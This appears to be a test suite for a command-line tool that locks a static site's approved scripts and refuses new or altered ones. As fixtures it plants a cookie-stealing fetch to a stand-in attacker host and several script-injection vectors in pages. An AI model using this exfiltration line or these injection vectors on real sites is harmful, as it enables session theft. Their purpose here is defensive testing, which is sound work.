import assert from "node:assert/strict";
import { execFileSync, spawnSync } from "node:child_process";
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { suite, test } from "node:test";
import type { TestContext } from "node:test";
import { command } from "./support/command.ts";
import { requires } from "./requires.ts";

// The lock as somebody meets it on the command line: what a second run refuses, what it lets through, what approves it.

interface Project {
  readonly root: string;
  write(files: Readonly<Record<string, string>>): void;
  run(...words: readonly string[]): { status: number | null; stdout: string; stderr: string };
  lock(): string;
}

function project(context: TestContext): Project {
  const root = mkdtempSync(join(tmpdir(), "curtainwall-lock-"));
  context.after(() => rmSync(root, { recursive: true, force: true }));
  return {
    root,
    write(files) {
      for (const [name, content] of Object.entries(files)) {
        mkdirSync(dirname(join(root, name)), { recursive: true });
        writeFileSync(join(root, name), content);
      }
    },
    run: (...words) =>
      spawnSync(process.execPath, [...command, ...words], {
        encoding: "utf8",
        cwd: root,
        env: { ...process.env, NO_COLOR: "1" },
      }),
    lock: () => readFileSync(join(root, "curtainwall.lock.json"), "utf8"),
  };
}

/** A page as Next and Nuxt write them, with data of its own. */
const page = (data: string, more = ""): string =>
  `<!doctype html><html><head><title>x</title><script>document.documentElement.className="js"</script></head><body>
<script>(self.__next_f=self.__next_f||[]).push([0])</script><script>self.__next_f.push([1,${JSON.stringify(data)}])</script>
<script>window.__NUXT__={};window.__NUXT__.config={public:{title:${JSON.stringify(data)}},app:{baseURL:"/"}}</script>
<script type="application/json">{"data":${JSON.stringify(data)}}</script><script src="/app.js"></script>${more}</body></html>`;
const site = {
  "dist/index.html": page("home"),
  "dist/about.html": page("about"),
  "dist/app.js": "addEventListener('load', () => console.info(1))",
};
/** Runs the command that a hint names. */
function follow({ run }: Project, stderr: string): ReturnType<Project["run"]> {
  const words = /npx curtainwall (.+)$/m.exec(stderr)?.[1] ?? assert.fail(stderr);
  return run(...words.split(" ").map((word) => word.replaceAll('"', "")));
}

suite("curtainwall harden and its lock", () => {
  test("the first run records and lists, data may change afterwards, code may not until it is approved", (context) => {
    const { root, write, run, lock } = project(context);
    write(site);
    const first = run("harden", "dist");
    assert.equal(first.status, 0, first.stderr);
    assert.match(first.stderr, /first run.*curtainwall\.lock\.json records/s);
    assert.match(first.stdout, /document\.documentElement\.className/);
    const recorded = lock();

    write({ "dist/index.html": page('other "data" </p> eval(1)') });
    const data = run("harden", "dist");
    assert.equal(data.status, 0, data.stderr);
    assert.equal(lock(), recorded);

    const published = readFileSync(join(root, "dist-hardened/site/index.html"), "utf8");
    write({
      "dist/index.html": page("other").replace(
        'className="js"',
        'className="js";fetch("//evil.example/"+document.cookie)',
      ),
    });
    const planted = run("harden", "dist");
    assert.equal(planted.status, 1);
    assert.match(planted.stderr, /^HARDEN_SCRIPT_UNAPPROVED {2}1 script of dist is not approved/m);
    assert.match(planted.stderr, /\+ fetch\("\/\/evil\.example\/" \+ document\.cookie\)/);
    assert.match(planted.stderr, /at {6}\/index\.html/);
    assert.equal(lock(), recorded);
    assert.equal(readFileSync(join(root, "dist-hardened/site/index.html"), "utf8"), published);

    const approved = follow({ root, write, run, lock }, planted.stderr);
    assert.equal(approved.status, 0, approved.stderr);
    const after = run("harden", "dist");
    assert.equal(after.status, 0, after.stderr);
  });

  test("every way into a page is refused: script, module, handler, link, file, other site, import map, srcdoc", (context) => {
    const { write, run } = project(context);
    write(site);
    assert.equal(run("harden", "dist").status, 0);
    write({
      "dist/evil.js": "evil()",
      "dist/index.html": page(
        "home",
        `<script>a1()</script><script type=module>a2()</script><p onclick="a3()">x</p><a href="java&#10;script:a4()">x</a>
<script src=/evil.js></script><script src="https://evil.example/x.js?id=1"></script><iframe srcdoc="<script>a5()</script>"></iframe>
<svg><script>a6()</script></svg><script type=importmap>{"imports":{"a":"/evil.js"}}</script>`,
      ),
    });
    const { status, stderr } = run("harden", "dist");
    assert.equal(status, 1);
    assert.match(stderr, /9 scripts of dist/);
    for (const sign of [
      "a1()",
      "a2()",
      "a3()",
      "a4()",
      "a5()",
      "a6()",
      "evil()",
      "https://evil.example/x.js?id=1",
      "importmap-",
    ])
      assert.ok(stderr.includes(sign), `${sign} in ${stderr}`);
  });

  test("a script file that changes is refused, with what changed", (context) => {
    const { write, run } = project(context);
    write(site);
    assert.equal(run("harden", "dist").status, 0);
    write({ "dist/app.js": "addEventListener('load', () => console.info(1));evil()" });
    const { status, stderr } = run("harden", "dist");
    assert.equal(status, 1);
    assert.match(stderr, /file-[0-9a-f]{12} {2}on 2 pages {2}\/app\.js/);
    assert.match(stderr, /\+ evil\(\)/);
  });

  test("a garbled lock is refused with its line, and nothing is published", (context) => {
    const { root, write, run } = project(context);
    write({ ...site, "curtainwall.lock.json": '{\n"format": "curtainwall-lock 1",\n<<<<<<< ours\n' });
    const { status, stderr } = run("harden", "dist");
    assert.equal(status, 1);
    assert.match(stderr, /HARDEN_LOCK_INVALID {2}curtainwall\.lock\.json can't be read, line 3: a merge/);
    assert.ok(!existsSync(join(root, "dist-hardened")));
  });
});

suite("curtainwall plan", () => {
  test("--frozen refuses what nobody has approved, also what a first run recorded, and never writes", (context) => {
    const { root, write, run, lock } = project(context);
    write(site);
    assert.equal(run("plan", "dist", "--frozen").status, 1);
    assert.equal(run("harden", "dist", "--frozen").status, 1);
    assert.ok(!existsSync(join(root, "curtainwall.lock.json")) && !existsSync(join(root, "dist-hardened")));
    assert.equal(run("harden", "dist").status, 0);
    const recorded = lock();
    assert.equal(run("plan", "dist", "--frozen").status, 1);
    assert.equal(lock(), recorded);
    const approved = run("plan", "dist", "--approve", "--all-shared", "the theme's own");
    assert.equal(approved.status, 0, approved.stderr);
    const frozen = run("plan", "dist", "--frozen");
    assert.equal(frozen.status, 0, frozen.stderr);
    assert.match(lock(), /"approved":"\d{4}-\d\d-\d\d","reason":"the theme's own"/);
  });

  test("shows what approval would allow, prunes what is gone, prints JSON", (context) => {
    const { write, run, lock } = project(context);
    write({ ...site, "dist/about.html": page("about", `<b onclick="go()">x</b>`) });
    const shown = run("plan", "dist");
    assert.equal(shown.status, 0);
    assert.match(shown.stdout, /handler-[0-9a-f]{12} {2}on one page only/);
    assert.match(shown.stdout, /allows {2}it runs on an event; markup that is injected/);
    assert.equal(run("harden", "dist").status, 0);
    write({ "dist/about.html": page("about") });
    const gone = run("plan", "dist");
    assert.match(gone.stdout, /handler-[0-9a-f]{12} {2}no longer there/);
    assert.equal(run("plan", "dist", "--prune").status, 0);
    assert.ok(!lock().includes("handler-"));
    const json = JSON.parse(run("plan", "dist", "--json").stdout) as {
      added: unknown[];
      unreviewed: unknown[];
    };
    assert.deepEqual([json.added.length, json.unreviewed.length], [0, 5]);
  });

  test("a short id approves what was shown, and nothing that took its place since", (context) => {
    const { root, write, run, lock } = project(context);
    write(site);
    assert.equal(run("harden", "dist").status, 0);
    write({ "dist/about.html": page("about", "<script>looked()</script>") });
    const short = /(inline-[0-9a-f]{12}) {2}on one page only(?:.*\n){3} +looked\(\)/;
    const refusedBefore = run("plan", "dist", "--approve", "inline-", "why");
    assert.match(refusedBefore.stderr, /HARDEN_APPROVAL_INVALID.*cut short, and no plan was shown/);
    const [, id = ""] = short.exec(run("plan", "dist").stdout) ?? assert.fail();

    const file = join(root, ".curtainwall/shown.json");
    assert.equal(statSync(file).mode & 0o777, 0o600);
    const shown = readFileSync(file, "utf8");
    // What was shown had the same first digits and another code.
    writeFileSync(file, shown.replaceAll(new RegExp(`(${id})[0-9a-f]{52}`, "g"), `$1${"0".repeat(52)}`));
    const swapped = run("plan", "dist", "--approve", id, "why");
    assert.equal(swapped.status, 1);
    assert.match(swapped.stderr, /its code has changed since/);
    assert.ok(!lock().includes('"reason"'));

    assert.match(run("plan", "dist", "--show", id).stdout, /looked\(\)/);
    const approved = run("plan", "dist", "--approve", id, "why");
    assert.equal(approved.status, 0, approved.stderr);
    assert.match(lock(), /"reason":"why".*looked\(\)/);
  });

  test("misuse is told", (context) => {
    const { write, run } = project(context);
    write(site);
    for (const words of [
      ["dist", "--approve", "x"],
      ["dist", "--prune", "--frozen"],
    ])
      assert.equal(run("plan", ...words).status, 2, words.join(" "));
  });
});

const { path: git, skip } = requires("git");
suite("merging", { skip }, () => {
  const inGit = (root: string, ...words: readonly string[]): string =>
    execFileSync(git, ["-c", "user.name=x", "-c", "user.email=x@example.invalid", ...words], {
      cwd: root,
      encoding: "utf8",
      stdio: "pipe",
    });

  test("two branches that approved different scripts merge into a lock that knows both", (context) => {
    const { root, write, run, lock } = project(context);
    write({ ...site, ".gitattributes": "curtainwall.lock.json merge=union\n" });
    assert.equal(run("harden", "dist").status, 0);
    inGit(root, "init", "-q", "-b", "main");
    inGit(root, "add", "curtainwall.lock.json", ".gitattributes");
    inGit(root, "commit", "-q", "-m", "first");
    for (const branch of ["one", "two"]) {
      inGit(root, "checkout", "-q", "-b", branch, "main");
      write({ "dist/index.html": page("home", `<script>${branch}()</script>`) });
      const approved = follow({ root, write, run, lock }, run("harden", "dist").stderr);
      assert.equal(approved.status, 0, approved.stderr);
      inGit(root, "commit", "-q", "-am", branch);
    }
    inGit(root, "merge", "-q", "-m", "both", "one");
    write({ "dist/index.html": page("home", `<script>one()</script><script>two()</script>`) });
    const both = run("harden", "dist");
    assert.equal(both.status, 0, both.stderr);
  });
});

test("several are approved at once, a line each; what is no longer there is pruned by name, and nothing is not called 0", (context) => {
  const { write, run } = project(context);
  write(site);
  run("harden", "dist");
  const ids = [...run("plan", "dist").stdout.matchAll(/^((?:inline|file)-[0-9a-f]{12}) /gm)].map(
    ([, id = ""]) => id,
  );
  assert.ok(ids.length >= 3);
  const nothing = run("plan", "dist", "--prune");
  assert.equal(nothing.status, 0);
  assert.match(nothing.stderr, /has every script.*nothing was taken out/);
  const { status, stdout, stderr } = run("plan", "dist", "--approve", ...ids, "the generator's own");
  assert.equal(status, 0, stderr);
  const lines = stdout.trim().split("\n");
  assert.equal(lines.length, ids.length);
  for (const id of ids)
    assert.equal(
      lines.filter((line) => /^approved {2}(\S+) {2}\/\S+ {2}the generator's own$/.exec(line)?.[1] === id)
        .length,
      1,
    );
  assert.match(stderr, new RegExp(`approved ${ids.length} scripts in curtainwall\\.lock\\.json`));
  write({
    "dist/index.html": "<!doctype html><title>x</title>",
    "dist/about.html": "<!doctype html><title>y</title>",
  });
  const pruned = run("plan", "dist", "--prune");
  assert.equal(pruned.stdout.trim().split("\n").length, ids.length);
  assert.match(pruned.stdout, /^pruned +file-[0-9a-f]{12} {2}\/app\.js$/m);
  assert.match(pruned.stderr, new RegExp(`pruned ${ids.length} scripts from`));
});
